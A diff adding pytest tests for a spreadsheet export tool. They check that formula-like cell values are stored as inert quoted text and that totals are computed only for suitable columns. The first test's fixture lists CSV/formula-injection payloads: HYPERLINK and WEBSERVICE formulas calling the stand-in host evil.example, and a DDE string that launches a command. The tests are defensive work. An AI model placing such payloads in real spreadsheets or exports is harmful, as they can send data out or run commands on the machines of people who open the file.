@@ -95,3 +95,49 @@ def test_the_check_reads_a_large_workbook_in_streaming_mode():
 def test_a_file_that_is_not_a_workbook_fails_the_check():
     with pytest.raises(RenderCheckError, match="does not reopen as an Excel workbook"):
         check_xlsx(b"not a workbook")
+
+
+def test_text_that_looks_like_a_formula_is_stored_as_text_and_only_the_totals_are_formulas():
+    # Given cells from an upload, a page or a model that a spreadsheet would evaluate (OWASP CSV injection)
+    hostile = [
+        '=HYPERLINK("http://evil.example/x","c")',
+        '=WEBSERVICE("http://evil.example/y")',
+        "+1+2",
+        "@SUM(A1:A2)",
+        "-cmd|' /C calc'!A0",
+        "\t=1+1",
+    ]
+    table = Table(["Name", "Note", "Amount"], [[f"Row {n}", cell, "10"] for n, cell in enumerate(hostile)], "Notes")
+    references = [Reference('=HYPERLINK("http://evil.example","x")', "https://example.org")]
+    # When
+    data, book = workbook(table, references=references)
+    # Then every such cell is a string, shown as written, with a quote prefix; the total stays a formula
+    notes = [book["Notes"].cell(row=r, column=2) for r in range(2, 2 + len(hostile))]
+    assert [c.value for c in notes] == [*hostile[:-1], "=1+1"]  # cells are trimmed; what is left stays text
+    assert {c.data_type for c in notes} == {"s"} and all(c.quotePrefix for c in notes)
+    assert book["Sources"]["B2"].data_type == "s" and book["Sources"]["B2"].value.startswith("=HYPERLINK")
+    total = book["Notes"].cell(row=2 + len(hostile), column=3)
+    assert total.value == f"=SUM(C2:C{1 + len(hostile)})" and total.data_type == "f"
+    assert b"<f>HYPERLINK" not in data and b"<f>WEBSERVICE" not in data
+
+
+def test_averages_rates_ids_and_years_are_not_totalled():
+    # Given a tickets export: an id, a count, an average, a rate and a year
+    table = Table(
+        ["ticket_id", "category", "tickets", "avg_resolution_hours", "escalationRate", "Year", "#"],
+        [["1001", "Billing", "12", "4.5", "0.2", "2023", "1"], ["1002", "Login", "30", "12", "0.1", "2024", "2"]],
+        "Tickets",
+    )
+    # When
+    _, book = workbook(table)
+    # Then only the count is totalled
+    assert [c.value for c in book["Tickets"][4]] == ["Total", None, "=SUM(C2:C3)", None, None, None, None]
+
+
+def test_a_table_that_names_its_totals_gets_them_even_over_empty_cells():
+    # Given a budget scaffold: categories with their amounts left to fill
+    budget = Table(["Category", "Amount", "Notes"], [["Venue", "", ""], ["Catering", "", ""]], "Budget", [1])
+    # When
+    _, book = workbook(budget)
+    # Then a live total adds up what the requester types in
+    assert [c.value for c in book["Budget"][4]] == ["Total", "=SUM(B2:B3)", None]
